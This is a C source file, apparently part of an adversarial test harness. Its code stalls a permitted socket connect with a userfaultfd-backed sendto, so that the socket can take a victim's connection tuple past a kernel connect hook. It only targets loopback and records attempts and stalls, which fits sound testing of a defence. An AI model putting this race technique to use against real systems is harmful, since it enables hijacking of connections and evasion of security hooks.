// SPDX-License-Identifier: Apache-2.0
/*
 * The attack that takes time: a connect that was allowed is kept waiting for as
 * long as one likes before it happens. Between the hook and the connect itself
 * the kernel lets the socket go; who takes its lock in sendto(MSG_MORE), and
 * sends from a page that is not there yet, keeps it until the page comes. When
 * the victim has come meanwhile, the page is served.
 *
 * userfaultfd serves the page; without privileges FUSE would do as well.
 */
#include "hostile.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

enum {
	PAGE = 4096,
	LONGEST_DELAY = 1500,
	/* Longer than any claim may wait for its connect. */
	STALL_MS = 1300,
	VICTIM_MS = 500, /* for the victim to come */
};

struct stall {
	int faults; /* the userfaultfd */
	char *page;
	bool has_threads, ended;
	struct barrier start, finish;
	pthread_t caller_id, sender_id;
	/* Of one try. */
	int fd;
	unsigned delay;
	atomic_bool has_called, has_sent;
};

struct stall *prepare_stall(void)
{
	struct stall *stall = calloc(1, sizeof(*stall));
	struct uffdio_api api = {.api = UFFD_API};
	struct uffdio_register registration = {.mode = UFFDIO_REGISTER_MODE_MISSING};

	if (!stall)
		return NULL;
	stall->faults = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
	stall->page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	registration.range.start = (uintptr_t)stall->page;
	registration.range.len = PAGE;
	if (stall->faults < 0 || stall->page == MAP_FAILED ||
	    ioctl(stall->faults, UFFDIO_API, &api) ||
	    ioctl(stall->faults, UFFDIO_REGISTER, &registration)) {
		free(stall);
		return NULL;
	}
	return stall;
}

static void *run_caller(void *argument)
{
	struct stall *stall = argument;
	struct destination server = server_destination();

	for (;;) {
		barrier_wait(&stall->start);
		if (stall->ended)
			return NULL;
		connect_to(stall->fd, &server);
		atomic_store(&stall->has_called, true);
		barrier_wait(&stall->finish);
	}
}

static void *run_sender(void *argument)
{
	struct stall *stall = argument;
	struct sockaddr_in elsewhere = {.sin_family = AF_INET,
					.sin_port = htons(SERVER_PORT + 1),
					.sin_addr.s_addr = htonl(INADDR_LOOPBACK)};

	for (;;) {
		barrier_wait(&stall->start);
		if (stall->ended)
			return NULL;
		for (unsigned i = stall->delay; i; i--)
			atomic_signal_fence(memory_order_seq_cst);
		sendto(stall->fd, stall->page, 64, MSG_MORE, (struct sockaddr *)&elsewhere,
		       sizeof(elsewhere));
		/* And away with what was kept back. */
		sendto(stall->fd, "", 0, 0, (struct sockaddr *)&elsewhere, sizeof(elsewhere));
		atomic_store(&stall->has_sent, true);
		barrier_wait(&stall->finish);
	}
}

static void start_threads(struct stall *stall)
{
	barrier_init(&stall->start, 3);
	barrier_init(&stall->finish, 3);
	if (pthread_create(&stall->caller_id, NULL, run_caller, stall) ||
	    pthread_create(&stall->sender_id, NULL, run_sender, stall))
		fail(EXIT_CANNOT_RUN, "cannot start a thread");
	stall->has_threads = true;
}

void end_stall(struct stall *stall)
{
	if (!stall->has_threads)
		return;
	stall->ended = true;
	barrier_wait(&stall->start);
	pthread_join(stall->caller_id, NULL);
	pthread_join(stall->sender_id, NULL);
}

static void serve_page(struct stall *stall)
{
	struct uffdio_zeropage zero = {.range = {(uintptr_t)stall->page, PAGE}};

	ioctl(stall->faults, UFFDIO_ZEROPAGE, &zero);
}

/* Whether the sender waits for its page now; else both are through already, or soon will be. */
static bool is_sender_waiting(struct stall *stall)
{
	struct pollfd fault = {.fd = stall->faults, .events = POLLIN};
	struct uffd_msg message;

	while (poll(&fault, 1, 1) != 1)
		if (atomic_load(&stall->has_sent))
			return false;
	return read(stall->faults, &message, sizeof(message)) == sizeof(message);
}

/* Whether the caller waits too, and behind the hook: then another socket is refused its tuple. */
static bool is_caller_behind_hook(struct attacker *attacker, uint16_t port)
{
	struct destination server = server_destination();
	struct shape shape = shape_at(AF_INET, "127.0.0.1", port);
	int fd, error;

	attack_nap();
	if (atomic_load(&attacker->stall->has_called))
		return false;
	fd = open_shape(&shape);
	if (fd < 0)
		return false;
	error = connect_to(fd, &server);
	close(fd);
	return error == attacker->hostile->options->refusal &&
	       !atomic_load(&attacker->stall->has_called);
}

/* Waits until the claim is old, then for the victim; its act, or 0. */
static uint32_t lure_victim(struct attacker *attacker, uint16_t port)
{
	struct stage *stage = attacker->hostile->stage;
	uint64_t end_ms;

	sleep_ms(STALL_MS);
	atomic_store(&stage->wanted, port);
	for (end_ms = now_ms() + VICTIM_MS; now_ms() < end_ms; attack_nap()) {
		uint32_t act = atomic_load(&stage->act);

		if (act % 2 && atomic_load(&stage->port) == port)
			return act;
	}
	return 0;
}

void try_stall(struct attacker *attacker, struct attack_counts *counts)
{
	struct stall *stall = attacker->stall;
	uint16_t port = (uint16_t)(FIRST_STALL_PORT + attacker->member->number);
	struct shape shape = shape_at(AF_INET, "127.0.0.1", port);
	uint32_t act = 0;

	if (!stall->has_threads)
		start_threads(stall);
	stall->fd = open_shape(&shape);
	if (stall->fd < 0)
		return;
	counts->attempts++;
	madvise(stall->page, PAGE, MADV_DONTNEED);
	stall->delay = random_below(&attacker->member->random, LONGEST_DELAY);
	atomic_store(&stall->has_called, false);
	atomic_store(&stall->has_sent, false);
	barrier_wait(&stall->start);
	if (is_sender_waiting(stall)) {
		if (is_caller_behind_hook(attacker, port)) {
			counts->stalled++;
			act = lure_victim(attacker, port);
		}
		serve_page(stall);
	}
	barrier_wait(&stall->finish);
	if (act && holds_victims_tuple(stall->fd, port))
		enjoy(attacker, stall->fd, act, counts);
	close(stall->fd);
}
